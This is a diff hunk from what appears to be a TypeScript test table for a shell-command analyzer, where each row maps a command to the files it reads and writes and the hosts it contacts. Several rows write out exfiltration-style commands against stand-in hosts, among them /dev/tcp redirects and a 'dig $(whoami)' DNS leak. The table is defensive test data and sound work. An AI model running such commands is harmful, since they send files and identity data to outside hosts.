@@ -65,7 +65,7 @@ const ROWS: readonly Row[] = [
   ["ssh -i key u@e.example ls", ["key"], [], ["e.example"]],
   ["dig +short f.example @1.1.1.1", [], [], ["f.example", "1.1.1.1"]],
   ["dig $(whoami).g.example", [], [], ["*.g.example"]],
-  ["git clone https://h.example/r.git", [], [], ["h.example"]],
+  ["git clone https://h.example/r.git", [], ["r"], ["h.example"]],
   ["cat a > /dev/tcp/i.example/80", ["a"], [], ["i.example"]],
   ["exec 3<>/dev/tcp/j.example/80; cat a >&3", ["a"], [], ["j.example"]],
   ["aws s3 cp a s3://bucket/", ["a"], [], ["bucket"]],
